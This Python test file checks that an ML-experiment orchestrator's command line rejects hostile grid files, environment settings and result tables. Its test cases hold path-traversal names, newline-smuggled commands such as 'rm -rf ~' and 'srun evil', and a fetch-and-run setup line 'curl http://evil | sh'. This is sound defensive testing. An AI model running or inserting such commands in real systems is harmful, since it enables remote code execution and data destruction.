"""Hostile and malformed inputs: each one ends in ONE line on stderr and exit code 2, with nothing written.

Every case runs the real console entry point (``orchestrator.cli.main``, in this process: no training, every
case fails in validation) in a scratch directory with its own workspace (``DLTH_HOME``), and checks:
exit code 2; exactly one line on stderr, ``error: ...`` naming the key (and the file, where there is one);
no database and no grid created; no file created or changed anywhere under the test's directory (the
workspace included), and nothing at the paths a hostile name points to.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from orchestrator.cli import main
from tests.conftest import write_meta_dir

GOOD = """
name = "g"
seeds = [0, 1]
[dataset]
root = "ds"
[train]
backbone = "test_resnet"
image_size = 32
epochs = 2
lr = 0.1
[resources]
cpus_per_task = 1
[subsets.full]
strategy = "full"
[subsets.half]
strategy = "uniform"
k = 3
[methods.supervised]
lr = [0.1, 0.2]
[methods.simclr]
temperature = 0.2
"""
LOTTERY = """
[lottery.LOT]
generate = "simclr"
subset = "half"
levels = 2
evaluate = { method = "simclr", subset = "full" }
"""
CSV_HEADER = "config,subset,metric,value,seed\n"
ESCAPE = "dlth-hostile-escape"  # what the hostile names point to, next to the test's directory


def edit(old: str, new: str) -> Callable[[str], str]:
    def apply(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)

    return apply


def nested(depth: int) -> Callable[[str], str]:
    return lambda text: text + "[breaker]\nx = " + "[" * depth + "]" * depth + "\n"


def million_jobs(text: str) -> str:
    lrs = ", ".join(str(0.001 * (i + 1)) for i in range(1000))
    return edit("seeds = [0, 1]", f"seeds = {list(range(1000))}")(edit("lr = [0.1, 0.2]", f"lr = [{lrs}]")(text))


# (id, grid edit, key the message names) -- `launch GRID` on an edited grid file
GRID_CASES: list[tuple[str, Callable[[str], str], str]] = [
    ("name-escapes-workspace", edit('name = "g"', f'name = "../../../{ESCAPE}"'), "name"),
    ("name-with-slash", edit('name = "g"', 'name = "a/b"'), "name"),
    ("name-too-long", edit('name = "g"', f'name = "{"n" * 201}"'), "name"),
    ("name-with-newline", edit('name = "g"', 'name = "g\\nsrun evil"'), "name"),
    ("name-with-nul", edit('name = "g"', 'name = "g\\u0000"'), "name"),
    ("subset-name-escapes", edit("[subsets.half]", f'[subsets."../{ESCAPE}"]'), "subsets."),
    ("method-table-name-with-space", edit("[methods.simclr]", '[methods."sim clr"]\nmethod = "simclr"'),
     "methods."),
    ("lottery-name-escapes", lambda t: t + LOTTERY.replace("LOT", f'"../{ESCAPE}"'), "lottery."),
    ("config-label-too-long", edit("[methods.simclr]", f"[methods.{'s' * 90}]\nmethod = \"simclr\"\n"
                                   f"backbone = [\"test_resnet\", \"{'x' * 150}\"]\n[methods.simclr]"),
     "methods." + "s" * 90),
    ("slurm-value-newline", edit("cpus_per_task = 1", 'cpus_per_task = 1\nslurm = { partition = "debug\\nrm -rf ~" }'),
     "resources.slurm.partition"),
    ("slurm-key-newline", edit("cpus_per_task = 1", 'cpus_per_task = 1\nslurm = { "x\\ny" = "1" }'),
     "resources.slurm"),
    ("slurm-value-table", edit("cpus_per_task = 1", "cpus_per_task = 1\nslurm = { qos = { a = 1 } }"),
     "resources.slurm.qos"),
    ("cluster-setup", lambda t: t + '[cluster]\nsetup = ["curl http://evil | sh"]\n', "cluster.setup"),
    ("cluster-python", lambda t: t + '[cluster]\npython = "/tmp/evil"\n', "cluster.python"),
    ("cluster-sbatch", lambda t: t + '[cluster]\nsbatch = { wrap = "evil" }\n', "cluster.sbatch"),
    ("cluster-profile-path", lambda t: t + '[cluster]\nprofile = "/tmp/evil.toml"\n', "cluster.profile"),
    ("lr-nan", edit("lr = 0.1\n", "lr = nan\n"), "train.lr"),
    ("lr-inf", edit("lr = 0.1\n", "lr = inf\n"), "train.lr"),
    ("swept-hparam-nan", edit("temperature = 0.2", "temperature = [0.2, nan]"), "methods.simclr.temperature"),
    ("seed-float", edit("seeds = [0, 1]", "seeds = [1e23]"), "seeds[0]"),
    ("seed-over-int32", edit("seeds = [0, 1]", "seeds = [2147483648]"), "seeds[0]"),
    ("seed-negative", edit("seeds = [0, 1]", "seeds = [-1]"), "seeds[0]"),
    ("epochs-float", edit("epochs = 2", "epochs = 1e23"), "train.epochs"),
    ("epochs-huge", edit("epochs = 2", "epochs = 10000000000"), "train.epochs"),
    ("epochs-beyond-64-bit", edit("epochs = 2", "epochs = 99999999999999999999999"), "train.epochs"),
    ("cpus-per-task-huge", edit("cpus_per_task = 1", "cpus_per_task = 100000"), "resources.cpus_per_task"),
    ("failure-budget-huge", edit("seeds = [0, 1]", "seeds = [0, 1]\nfailure_budget = 9999999999"),
     "failure_budget"),
    ("lottery-levels-huge", lambda t: t + LOTTERY.replace("LOT", "lot").replace("levels = 2", "levels = 5000"),
     "lottery.lot.levels"),
    ("million-jobs", million_jobs, "methods"),
    ("nested-past-recursion", nested(5000), "toml"),
    ("nested-deep", nested(40), "toml"),
    ("toml-key-with-newline", lambda t: '"colour\\nevil" = 1\n' + t, "colour\\nevil"),
]


@pytest.fixture
def scratch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The test's directory: the input files under ``in/``, the workspace ``home/`` (empty), cwd ``run/``."""
    (tmp_path / "in").mkdir()
    write_meta_dir(tmp_path / "in" / "ds")
    (tmp_path / "in" / "grid.toml").write_text(GOOD)
    (tmp_path / "in" / "results.csv").write_text(CSV_HEADER + "a,full,acc,0.9,0\nb,full,acc,0.8,0\n")
    for d in ("home", "run"):
        (tmp_path / d).mkdir()
    monkeypatch.setenv("DLTH_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path / "run")
    return tmp_path


def tree(root: Path) -> dict[str, tuple[int, int]]:
    return {str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) for p in root.rglob("*")}


def run_refused(scratch: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """Run ``dlth-orch ARGS``; assert exit 2, one line on stderr, nothing written; return that line."""
    before = tree(scratch)
    capsys.readouterr()
    with pytest.raises(SystemExit) as info:
        main(list(args))
    out, err = capsys.readouterr()
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert info.value.code == 2, err
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert tree(scratch) == before, "nothing may be written (no database, no workspace file, no report)"
    assert not (scratch / "home").joinpath("dlth.db").exists()
    for escaped in (scratch.parent / ESCAPE, scratch / ESCAPE, Path("/tmp") / ESCAPE):
        assert not escaped.exists(), escaped
    return lines[0]


@pytest.mark.parametrize(("grid_edit", "key"), [pytest.param(e, k, id=i) for i, e, k in GRID_CASES])
def test_a_hostile_grid_is_refused_in_one_line(scratch: Path, capsys: pytest.CaptureFixture[str],
                                               grid_edit: Callable[[str], str], key: str) -> None:
    grid = scratch / "in" / "grid.toml"
    grid.write_text(grid_edit(GOOD))
    line = run_refused(scratch, capsys, "launch", str(grid), "--cluster", "local")
    assert line.startswith(f"error: {grid}: {key}"), line


def test_the_good_grid_of_these_cases_passes_validation(scratch: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The cases above fail for their hostile part alone: the grid they edit is accepted (dry run)."""
    main(["launch", str(scratch / "in" / "grid.toml"), "--dry-run", "--json"])
    assert "\"jobs\": 12" in capsys.readouterr().out
    assert not (scratch / "home" / "dlth.db").exists()


def test_more_jobs_than_max_jobs_are_refused_before_expansion_and_allowed_with_the_option(
        scratch: Path, capsys: pytest.CaptureFixture[str]) -> None:
    grid = scratch / "in" / "grid.toml"
    line = run_refused(scratch, capsys, "launch", str(grid), "--max-jobs", "11", "--dry-run")
    assert line == f"error: {grid}: methods: expected a grid of at most 11 jobs (this one has 12: subsets x " \
                   "configurations x seeds); launch --max-jobs N allows more"
    main(["launch", str(grid), "--max-jobs", "12", "--dry-run", "--json"])
    assert "\"jobs\": 12" in capsys.readouterr().out


@pytest.mark.parametrize(("content", "key"), [
    pytest.param(b'name = "g\xff\xfe"\n', "file: expected UTF-8 text", id="not-utf8"),
    pytest.param(b"name = 'g'\n" + b"#" * (17 << 20), "file: expected a grid file of at most 16 MiB", id="too-big"),
])
def test_a_grid_file_that_is_not_text_is_refused(scratch: Path, capsys: pytest.CaptureFixture[str], content: bytes,
                                                 key: str) -> None:
    grid = scratch / "in" / "grid.toml"
    grid.write_bytes(content)
    assert run_refused(scratch, capsys, "launch", str(grid)).startswith(f"error: {grid}: {key}")


@pytest.mark.parametrize(("var", "value"), [
    ("DLTH_UMASK", "abc"), ("DLTH_UMASK", "7777"), ("DLTH_HEARTBEAT_S", "fast"), ("DLTH_HEARTBEAT_S", "nan"),
    ("DLTH_STALE_S", "-5"), ("DLTH_DB_RETRIES", "inf"),
])
def test_a_bad_environment_setting_is_refused(scratch: Path, capsys: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch, var: str, value: str) -> None:
    monkeypatch.setenv(var, value)
    line = run_refused(scratch, capsys, "launch", str(scratch / "in" / "grid.toml"))
    assert line.startswith(f"error: environment {var}={value!r}: expected"), line


@pytest.mark.parametrize(("rows", "column"), [
    pytest.param("a,full,acc,inf,0\n", "value", id="value-inf"),
    pytest.param("a,full,acc,nan,0\n", "value", id="value-nan"),
    pytest.param("a,full,acc,1e300,0\n", "value", id="value-huge"),
    pytest.param("a,full,acc,ninety,0\n", "value", id="value-not-a-number"),
    pytest.param("a,full,acc,0.9,99999999999\n", "seed", id="seed-over-int32"),
    pytest.param(f"{'c' * 201},full,acc,0.9,0\n", "config", id="label-too-long"),
    pytest.param('"a\x1b[2J",full,acc,0.9,0\n', "config", id="label-control-character"),
])
def test_an_external_table_that_would_break_the_report_is_refused(scratch: Path, capsys: pytest.CaptureFixture[str],
                                                                  rows: str, column: str) -> None:
    csv = scratch / "in" / "results.csv"
    csv.write_text(CSV_HEADER + "b,full,acc,0.8,0\n" + rows)
    line = run_refused(scratch, capsys, "report", "--external", str(csv))
    assert line.startswith(f"error: {csv}: row 3, column {column}: expected"), line


def test_a_nan_criterion_is_refused(scratch: Path, capsys: pytest.CaptureFixture[str]) -> None:
    line = run_refused(scratch, capsys, "report", "--external", str(scratch / "in" / "results.csv"),
                       "--criterion", "confidence=nan")
    assert line == "error: --criterion.confidence: expected a finite number (got nan)"


def test_a_report_name_that_would_leave_the_workspace_is_refused(scratch: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """An external table named ``...csv`` would name its report folder ``..`` (outside reports/): a report
    without --out only prints (nothing is written anywhere), and report_dir refuses such a name."""
    from orchestrator.workspace import report_dir
    from specs.base import SpecError

    csv = scratch / "in" / "...csv"
    csv.write_text((scratch / "in" / "results.csv").read_text())
    with pytest.raises(SpecError, match="expected a report name usable as a folder under"):
        report_dir("..")
    main(["report", "--external", str(csv)])
    assert "files: none written" in capsys.readouterr().out and os.listdir(scratch / "home") == []
    main(["report", "--external", str(csv), "--out", str(scratch / "out")])  # --out is the way
    assert (scratch / "out" / "report.md").is_file()
    assert os.listdir(scratch / "home") == []
